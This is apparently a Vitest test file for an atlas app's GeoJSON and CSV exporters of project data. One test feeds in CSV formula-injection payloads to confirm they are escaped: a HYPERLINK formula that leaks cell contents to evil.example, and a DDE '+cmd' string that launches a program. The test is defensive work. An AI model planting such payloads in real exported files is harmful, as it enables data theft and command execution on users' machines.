// @vitest-environment node
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { filterProjects } from '../../src/domain/filters/filterProjects';
import { synthesizeAtlas } from '../../data/scripts/syntheticAtlas';
import { countryShapesByAlpha2 } from '../../data/scripts/worldCountries';
import { type AtlasData, EMPTY_FILTERS } from '../../src/vocabulary';
import { indexAtlas } from '../../src/data/loadAtlas';
import type { ProjectFeature } from '../../src/data/atlasSchema';
import { blobFromParts } from '../../src/domain/export/blobFromParts';
import { CSV_COLUMNS, projectsCsvParts } from '../../src/domain/export/projectsCsv';
import { projectsGeoJsonBlob, projectsGeoJsonParts } from '../../src/domain/export/projectsGeoJson';
import { withProjectName } from '../fixtures/atlasVariants';
import { builtAtlasData } from '../fixtures/builtAtlas';

const data = builtAtlasData();
const features = data.atlas.projects.features;
const group = data.atlas.groups[0]!;
/** Enough projects for several parts. */
const large = indexAtlas(synthesizeAtlas({ count: 2_500, seed: 5, countryShapes: countryShapesByAlpha2() }));

/** The CSV text, its parts joined (fine for a test's few projects). */
const projectsCsv = (atlas: AtlasData, shown: readonly ProjectFeature[]) => [...projectsCsvParts(atlas, shown)].join('');

function parseCsv(text: string) {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<Record<(typeof CSV_COLUMNS)[number], string>>(text.slice(1), { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed;
}

describe('projectsGeoJson', () => {
  it('is the shown features as they are, with the groups that have a shown member', async () => {
    const shown = filterProjects(features, { ...EMPTY_FILTERS, countries: [data.projectsById.get(group.members[0]!)!.properties.countries[0]!] });
    const blob = projectsGeoJsonBlob(data, shown);
    expect(blob.type).toBe('application/geo+json');
    const groups = data.atlas.groups.filter((candidate) => candidate.members.some((id) => shown.some((project) => project.id === id)));
    expect(groups.map((g) => g.id)).toContain(group.id);
    expect(JSON.parse(await blob.text())).toEqual({ type: 'FeatureCollection', features: shown, groups });
    expect(JSON.parse(await projectsGeoJsonBlob(data, []).text())).toEqual({ type: 'FeatureCollection', features: [], groups: [] });
  });

  it('comes in parts of a bounded number of features, never one string for all of them', () => {
    // Over 2^29 characters a JavaScript string cannot be made: a million projects' text must never be one.
    const shown = large.atlas.projects.features;
    const parts = [...projectsGeoJsonParts(large, shown)];
    const total = parts.reduce((length, part) => length + part.length, 0);
    expect(parts.length).toBeGreaterThan(3);
    expect(Math.max(...parts.map((part) => part.length))).toBeLessThan(total / 2);
    const parsed = JSON.parse(parts.join('')) as { features: unknown[] };
    expect(parsed.features).toEqual(shown);
  });
});

describe('blobFromParts', () => {
  it('makes one file of the parts a generator yields, in order', async () => {
    function* parts() {
      yield '{"a":';
      yield '[1,';
      yield '2]}';
    }
    const blob = blobFromParts(parts(), 'application/json');
    expect(blob.type).toBe('application/json');
    expect(JSON.parse(await blob.text())).toEqual({ a: [1, 2] });
  });

  it('writes a project without a place with "geometry": null, as GeoJSON allows, and its CSV row with empty location cells', () => {
    const alliance = data.projectsById.get('china-central-asia-news-alliance')!;
    const text = [...projectsGeoJsonParts(data, [alliance])].join('');
    expect(text).toContain('"geometry":null');
    expect(text).toContain('"location":null');
    const [row] = parseCsv(projectsCsv(data, [alliance])).data;
    expect([row?.project_id, row?.location_precision, row?.location_source]).toEqual(['china-central-asia-news-alliance', '', '']);
  });
});

describe('projectsCsv', () => {
  const { data: rows, meta } = parseCsv(projectsCsv(data, features));

  it('has the agreed columns', () => {
    expect(meta.fields).toEqual([...CSV_COLUMNS]);
  });

  it('has a row per figure, one for a project without figures, and one per group figure', () => {
    const expected = features.reduce((sum, feature) => sum + Math.max(1, feature.properties.figures.length), 0) + data.atlas.groups.reduce((sum, g) => sum + g.figures.length, 0);
    expect(rows).toHaveLength(expected);
    const bare = features.find((feature) => feature.properties.figures.length === 0)!;
    const bareRows = rows.filter((row) => row.project_id === bare.id);
    expect(bareRows).toHaveLength(1);
    expect(bareRows[0]!.metric).toBe('');
    expect(bareRows[0]!.value).toBe('');
    expect(bareRows[0]!.name_zh).toBe(bare.properties.name.zh);
  });

  it('carries each figure with its verbatim quote and where it sits', () => {
    for (const feature of features) {
      for (const figure of feature.properties.figures) {
        const row = rows.find((candidate) => candidate.project_id === feature.id && candidate.metric === figure.metric && candidate.phase === (figure.phase ?? ''))!;
        const speech = data.speechesById.get(figure.speech)!;
        expect(row.value).toBe(String(figure.value));
        expect(row.amount_as_written).toBe(figure.amount);
        expect(row.quote).toBe(figure.quote);
        expect(row.speaker).toBe(speech.speaker.line);
        const paragraph = speech.paragraphs.find((candidate) => candidate.id === row.paragraph)!;
        expect(paragraph.text.slice(Number(row.span_start), Number(row.span_end))).toBe(figure.quote);
        expect(row.countries.split(';')).toEqual(feature.properties.countries);
      }
    }
  });

  it('carries the English and Russian words that render each quote, and none for a dataset without translations', () => {
    const zarafshanRow = rows.find((row) => row.project_id === 'zarafshan-wind-500');
    expect(zarafshanRow).toMatchObject({ quote: '泽拉夫善500兆瓦风电项目', quote_en: 'Zarafshan 500 MW wind power project', quote_ru: 'ВЭС «Зарафшан» мощностью 500\u00A0МВт' });
    const untranslated = { ...data, speechesById: new Map([...data.speechesById].map(([id, speech]) => [id, { ...speech, translations: undefined }])) };
    const { data: plainRows } = parseCsv(projectsCsv(untranslated, features));
    expect(plainRows.find((row) => row.project_id === 'zarafshan-wind-500')).toMatchObject({ quote_en: '', quote_ru: '' });
  });

  it('writes a group figure once, for its members', () => {
    const groupRows = rows.filter((row) => row.project_id === group.members.join(';'));
    expect(groupRows.map((row) => row.quote)).toEqual(group.figures.map((figure) => figure.quote));
    expect(groupRows[0]!.name_en).toBe(group.name.en);
  });

  it('follows the filter', () => {
    const shown = features.filter((feature) => !group.members.includes(feature.id));
    const { data: filtered } = parseCsv(projectsCsv(data, shown));
    const shownIds = new Set(shown.map((feature) => feature.id));
    const shownGroups = data.atlas.groups.filter((g) => g.members.some((id) => shownIds.has(id)));
    expect(shownGroups.map((g) => g.id)).not.toContain(group.id);
    expect(new Set(filtered.map((row) => row.project_id))).toEqual(new Set([...shownIds, ...shownGroups.map((g) => g.members.join(';'))]));
  });

  it('makes a cell that would start a formula plain text with a leading quote, also when it runs over several lines', () => {
    // papaparse's own escapeFormulae tests /^[=+\-@\t\r].*$/, whose . stops at a line break: it
    // let a multi-line =HYPERLINK(…) through.
    const names = {
      zh: '=HYPERLINK("https://evil.example/?leak="&A1,"点击")\n第二行',
      en: '+cmd|\' /C calc\'!A0\nsecond line',
      ru: '-2+3\r\nвторая строка',
    };
    const renamed = withProjectName(data, 'shelek-wind-60', names);
    const rows = parseCsv(projectsCsv(renamed, renamed.atlas.projects.features)).data.filter((row) => row.project_id === 'shelek-wind-60');
    expect(rows.map((row) => [row.name_zh, row.name_en, row.name_ru])).toEqual([[`'${names.zh}`, `'${names.en}`, `'${names.ru}`]]);
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=1\n2', '@\n'])('escapes a cell starting %j', (name) => {
    const renamed = withProjectName(data, 'shelek-wind-60', { en: name });
    const [row] = parseCsv(projectsCsv(renamed, [renamed.projectsById.get('shelek-wind-60')!])).data;
    expect(row?.name_en).toBe(`'${name}`);
  });

  it('leaves a cell alone that only has a formula sign later on', () => {
    const renamed = withProjectName(data, 'shelek-wind-60', { en: 'Shelek =60 MW\n-wind' });
    const [row] = parseCsv(projectsCsv(renamed, [renamed.projectsById.get('shelek-wind-60')!])).data;
    expect(row?.name_en).toBe('Shelek =60 MW\n-wind');
  });

  it('comes in parts of a bounded number of projects, the header once', () => {
    const shown = large.atlas.projects.features;
    const parts = [...projectsCsvParts(large, shown)];
    const total = parts.reduce((length, part) => length + part.length, 0);
    expect(parts.length).toBeGreaterThan(3);
    expect(Math.max(...parts.map((part) => part.length))).toBeLessThan(total / 2);
    const { data: rows } = parseCsv(parts.join(''));
    expect(rows.filter((row) => row.project_id === 'project_id')).toEqual([]);
    expect(new Set(rows.map((row) => row.project_id))).toEqual(new Set([...shown.map((project) => project.id), ...large.atlas.groups.map((g) => g.members.join(';'))]));
  });
});
